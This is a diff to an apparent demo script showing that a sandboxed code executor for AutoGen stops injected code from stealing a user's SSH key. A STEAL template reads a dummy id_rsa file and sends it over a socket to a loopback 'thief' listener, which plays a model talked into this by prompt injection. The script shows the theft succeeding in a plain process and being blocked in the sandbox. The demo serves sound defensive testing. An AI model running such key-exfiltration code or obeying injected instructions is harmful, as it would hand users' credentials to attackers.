@@ -1,8 +1,8 @@
 """An agent is talked into sending the SSH key of its user away, and can't: without a cluster, on this machine.
 
-The answer of the model is what a prompt injection would have it write. Everything else is real but the key: a file made
-for this, in a folder that plays the user's home, and a listener on the loopback interface that plays the thief. First the
-code runs as AutoGen's local executor would run it, in a plain process, so that you see it work; then in the sandbox.
+The code is what a prompt injection would have a model write. The key is made for this, in a folder that plays the
+home of the user, and a listener on the loopback interface plays the thief; everything else is real. First the code runs
+as with AutoGen's local executor, in a plain process, so that you see it work; then in the sandbox.
 
 Needs Linux 6.12 or newer and the extra `local`; no model key, no network.
 """
@@ -21,6 +21,7 @@ from autogen_core import CancellationToken
 
 from executor_client import LocalSandboxExecutor
 
+KEY = "a key made for this example"
 STEAL = """\
 import pathlib, socket
 key = pathlib.Path({key!r})
@@ -41,30 +42,34 @@ except OSError as error:
 
 def approve(request: ApprovalRequest) -> ApprovalResponse:
     """AutoGen's own question before code runs; here somebody has not looked closely."""
-    return ApprovalResponse(approved=True, reason="looks fine")
+    return ApprovalResponse(approved=True, reason=f"{len(request.code)} characters that look fine")
 
 
-def loot(thief: socket.socket) -> bytes:
+def make_key(home: Path) -> Path:
+    key = home / ".ssh" / "id_rsa"
+    key.parent.mkdir()
+    key.write_text(KEY)
+    return key
+
+
+def loot(thief: socket.socket) -> str:
     """What the thief has got."""
     try:
         connection, _ = thief.accept()
     except BlockingIOError:
-        return b""
+        return ""
     with connection:
-        return connection.recv(1024)
+        return connection.recv(1024).decode()
 
 
 async def main() -> None:
     with tempfile.TemporaryDirectory() as home, socket.create_server(("127.0.0.1", 0)) as thief:
         thief.setblocking(False)
-        key = Path(home, ".ssh", "id_rsa")
-        key.parent.mkdir()
-        key.write_text("a key made for this example")
-        code = STEAL.format(key=str(key), port=thief.getsockname()[1])
+        code = STEAL.format(key=str(make_key(Path(home))), port=thief.getsockname()[1])
 
         print("--- a plain process ---", flush=True)
         await asyncio.to_thread(subprocess.run, [sys.executable, "-c", code], check=True)
-        assert loot(thief) == key.read_bytes()
+        assert loot(thief) == KEY
 
         print("--- the sandbox ---")
         os.environ["API_TOKEN"] = "a token in the environment"
@@ -78,7 +83,7 @@ async def main() -> None:
         assert "can't be read: Permission denied" in said
         assert "nothing can be sent: Permission denied" in said
         assert "API_TOKEN" not in said
-        assert loot(thief) == b""
+        assert loot(thief) == ""
     print("OK: the key stayed where it was, and the thief heard nothing")
 
 
